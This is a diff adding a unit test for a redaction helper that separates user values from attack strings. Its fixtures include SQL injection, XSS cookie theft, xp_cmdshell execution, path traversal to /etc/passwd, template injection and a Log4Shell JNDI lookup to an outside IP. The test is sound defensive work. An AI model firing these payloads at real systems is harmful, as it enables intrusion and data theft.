@@ -1,0 +1,38 @@
+import assert from 'node:assert/strict';
+import { valuesInMatch } from '../../../src/redaction/valuesInMatch.ts';
+
+const found = (match: string) => valuesInMatch(match).map(({ start, end }) => match.slice(start, end));
+
+describe('values in a match', () => {
+  for (const [match, ...values] of [
+    ["margriet.vos' OR '1'='1' -- ", 'margriet.vos'],
+    ['Zonnebloem%27%20OR%201%3D1--%20Herfst87', 'Zonnebloem', 'Herfst87'],
+    ['/d/tIuLKUh0CCOIXDR0J8%3Cscript%3Ealert(1)%3C/script%3E', 'tIuLKUh0CCOIXDR0J8'],
+    ['please do not tell her<script>alert(1)</script>', 'please do not tell her'],
+    [
+      "UPDATE customers SET pw='Regenboog77', phone='0655501277' WHERE mail='j.kuiper%40mail.example'; DROP TABLE a;--",
+      'Regenboog77',
+      '0655501277',
+      'j.kuiper%40mail.example',
+    ],
+  ] as const) {
+    it(`are not part of the attack: ${match}`, () => assert.deepEqual(found(match), values));
+  }
+
+  for (const match of [
+    "1' OR '1'='1",
+    "admin' -- ",
+    '2627%27%3B%20DROP%20TABLE%20orders--',
+    "' UNION SELECT card_no, cvv FROM payments WHERE id=3981-- ",
+    "x'; EXEC xp_cmdshell('dir c:\\windows')--",
+    'id=<script>alert(document.cookie)</script>',
+    '/download/../../../../etc/passwd',
+    '{{constructor.constructor(\'alert("a1b2c3")\')()}}',
+    `$${'{jndi:ldap://203.0.113.5:1389/a}'}`,
+    "WAITFOR DELAY '0:0:5'",
+    'ordinary',
+    '',
+  ]) {
+    it(`are missing from ${match}`, () => assert.deepEqual(found(match), []));
+  }
+});
